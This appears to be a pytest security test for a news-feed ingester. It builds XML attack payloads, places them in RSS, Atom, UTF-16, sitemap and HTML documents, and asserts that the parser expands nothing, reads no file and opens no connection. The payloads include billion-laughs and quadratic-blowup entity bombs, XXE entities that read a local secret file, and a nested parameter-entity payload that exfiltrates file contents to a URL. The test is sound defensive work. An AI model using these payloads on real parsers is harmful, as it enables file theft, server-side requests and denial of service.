"""Figure 2: XML attacks through a whole pass. Billion laughs, quadratic blow-up, external entities
(file and URL), parameter entities, an external DTD, XInclude and a stylesheet PI, each as an RSS
feed, an Atom feed, a UTF-16 feed (which takes the feedparser path rather than lxml's), a sitemap and
a home page: nothing is expanded beyond a bound, no file is read, and a listener that counts
connections sees none. Parser-level proofs: tests/ingest/test_feeds.py (billion laughs, XXE).
"""

from __future__ import annotations

import asyncio
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hostile_helpers import ConnectionCounter, pass_over, policy

from newsdesk.models import NewSource, SourceKind
from newsdesk.storage import ArticleFilter

SECRET = "TOPSECRET-4f1c9e-never-shown"


def lol_entities() -> str:
    lines = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    lines += [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    return "".join(lines)


def attacks(secret_file: Path, port: int) -> dict[str, tuple[str, str]]:
    """name -> (DOCTYPE internal subset or full prolog, what to put where text goes)."""
    url = f"http://127.0.0.9:{port}"
    return {
        "billion_laughs": (f"[{lol_entities()}]", "&lol9;"),
        "quadratic_blowup": (f'[<!ENTITY a "{"A" * 100_000}">]', "&a;" * 20_000),
        "xxe_file": (f'[<!ENTITY xxe SYSTEM "file://{secret_file}">]', "&xxe;"),
        "xxe_url": (f'[<!ENTITY xxe SYSTEM "{url}/xxe">]', "&xxe;"),
        "parameter_entity": (f'[<!ENTITY % remote SYSTEM "{url}/evil.dtd"> %remote; '
                             f'<!ENTITY % file SYSTEM "file://{secret_file}">]', "text"),
        "parameter_entity_nested": (f'[<!ENTITY % file SYSTEM "file://{secret_file}">'
                                    f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{url}/?x=%file;\'>">'
                                    f"%eval; %exfil;]", "text"),
        "external_dtd": (f'SYSTEM "{url}/external.dtd"', "text"),
        "public_dtd": (f'PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{url}/xhtml1-strict.dtd"', "text"),
        "xinclude": ("", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret_file}" '
                         f'parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/inc"/>'),
    }


def as_rss(root: str, subset: str, text: str, key: str) -> str:
    doctype = f"<!DOCTYPE {root} {subset}>" if subset else ""
    return (f'<?xml version="1.0" encoding="utf-8"?><?xml-stylesheet type="text/xsl" href="http://127.0.0.9/x.xsl"?>'
            f'{doctype}<rss version="2.0"><channel><title>T {text}</title><link>https://news.example/</link>'
            f"<item><title>A {text}</title><link>https://news.example/{key}/1</link>"
            f"<description>D {text}</description></item>"
            f"<item><title>Plain</title><link>https://news.example/{key}/2</link></item></channel></rss>")


def as_atom(subset: str, text: str, key: str) -> str:
    doctype = f"<!DOCTYPE feed {subset}>" if subset else ""
    return (f'<?xml version="1.0" encoding="utf-8"?>{doctype}<feed xmlns="http://www.w3.org/2005/Atom">'
            f"<title>T {text}</title><entry><title>A {text}</title><id>urn:{key}</id>"
            f'<link href="https://news.example/{key}/1"/><content type="html">C {text}</content></entry></feed>')


def as_sitemap(subset: str, text: str, key: str) -> str:
    doctype = f"<!DOCTYPE urlset {subset}>" if subset else ""
    return (f'<?xml version="1.0" encoding="utf-8"?>{doctype}'
            f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"<url><loc>https://news.example/{key}/1{text if '&' in text and len(text) < 50 else ''}</loc></url>"
            f"<url><loc>https://news.example/{key}/2</loc></url></urlset>")


def as_homepage(subset: str, text: str, key: str) -> str:
    doctype = f"<!DOCTYPE html {subset}>" if subset else "<!doctype html>"
    links = "".join(f'<li><a href="/{key}/2026/01/20/story-number-{i}">Story {i} {text[:200]}</a>'
                    for i in range(3))
    return f"{doctype}<html><head><title>{text[:200]}</title></head><body><ul>{links}</ul></body></html>"


@pytest.fixture
def counter9():
    c = ConnectionCounter("127.0.0.9")
    yield c
    c.close()


def test_xml_attacks_expand_nothing_read_nothing_connect_nowhere(site, storage, counter9, tmp_path) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET)
    now = datetime.now(UTC)
    n = 0
    for name, (subset, text) in attacks(secret_file, counter9.port).items():
        docs = {
            "rss": (as_rss("rss", subset, text, f"{name}-rss").encode(), "application/rss+xml", SourceKind.FEED),
            "rss_utf16": (as_rss("rss", subset, text, f"{name}-u16").replace('encoding="utf-8"', 'encoding="utf-16"')
                          .encode("utf-16"), "application/rss+xml", SourceKind.FEED),
            "atom": (as_atom(subset, text, f"{name}-atom").encode(), "application/atom+xml", SourceKind.FEED),
            "sitemap": (as_sitemap(subset, text, f"{name}-sm").encode(), "application/xml", SourceKind.SITEMAP),
            "homepage": (as_homepage(subset, text, f"{name}-hp").encode(), "text/html", SourceKind.HOMEPAGE),
        }
        for form, (body, ctype, kind) in docs.items():
            n += 1
            url = site.add(f"/x/{n}", body, content_type=ctype)
            storage.add_source(NewSource(url, kind=kind, title=f"{name}/{form}"), now)
    started = time.perf_counter()
    # a roomy deadline: the site is served from this process, and the parses it races with hold the GIL
    summary = asyncio.run(pass_over(storage, fetch_policy=policy(timeout=15.0), fetch_pages=False))
    seconds = time.perf_counter() - started
    assert counter9.connections == 0
    assert "internal" not in summary.feed_errors
    sources = storage.list_sources()
    assert len(sources) == n
    outcomes = {}
    for source in sources:
        assert SECRET not in (source.title + (source.state.last_error or ""))
        stored = storage.list_articles(ArticleFilter(source_id=source.id), limit=100)
        outcomes[source.title] = source.state.last_error_kind or len(stored)
        for item in stored:
            article = storage.get_article(item.id)
            everything = " ".join(str(v) for v in (article.title, article.summary, article.html, article.text,
                                                    article.url))
            assert SECRET not in everything, source.title
            # nothing expanded beyond a bound: "lol" a billion times would be 3 GB, the blow-up 2 GB
            assert everything.count("lol") < 100 and everything.count("A" * 1000) < 20, source.title
            assert len(everything) < 1_100_000, source.title
    # every valid entry of the documents still readable was stored, every refused one recorded
    unreadable = {t: o for t, o in outcomes.items() if isinstance(o, str)}
    assert set(unreadable.values()) <= {"malformed", "not_a_feed", "parse"}, unreadable
    assert {t: o for t, o in outcomes.items() if o == 0} == {}
    assert seconds < 20
    print(f"\nXML attacks: {n} documents in {seconds:.1f} s, {len(unreadable)} refused, "
          f"{sum(o for o in outcomes.values() if isinstance(o, int))} articles stored; {unreadable}")
